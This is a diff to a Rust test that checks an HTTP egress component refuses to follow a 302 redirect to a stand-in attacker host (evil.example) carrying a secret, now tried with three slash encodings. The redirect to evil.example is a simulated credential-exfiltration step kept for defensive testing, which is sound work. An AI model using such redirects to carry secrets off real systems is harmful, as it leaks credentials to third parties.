@@ -140,19 +140,21 @@ async fn not_in_what_comes_back() {
 
 #[tokio::test]
 async fn a_redirect_may_not_carry_it_away() {
-    let server = Server::start(|request| {
-        let port = request.local.port();
-        redirect(302, &format!("http://evil.example:{port}/{}", SECRET.replace('/', "%2F")))
-    })
-    .await;
-    let request = EgressRequest {
-        credentials: vec![credential("key", &["http://api.example:*"], bearer())],
-        ..get(format!("http://api.example:{}/", server.port))
-    };
-    let result = Egress::new(names()).send(&open(&["127.0.0.1"]), request).await;
-    assert_eq!(gate(&result), "audience");
-    assert!(!format!("{result:?}").contains("s3cr3t"));
-    assert_eq!(server.log().len(), 1);
+    for slash in ["/", "%2F", "%2f"] {
+        let server = Server::start(move |request| {
+            let port = request.local.port();
+            redirect(302, &format!("http://evil.example:{port}/{}", SECRET.replace('/', slash)))
+        })
+        .await;
+        let request = EgressRequest {
+            credentials: vec![credential("key", &["http://api.example:*"], bearer())],
+            ..get(format!("http://api.example:{}/", server.port))
+        };
+        let result = Egress::new(names()).send(&open(&["127.0.0.1"]), request).await;
+        assert_eq!(gate(&result), "audience", "{slash}");
+        assert!(!format!("{result:?}").contains("s3cr3t"));
+        assert_eq!(server.log().len(), 1);
+    }
 }
 
 #[tokio::test]
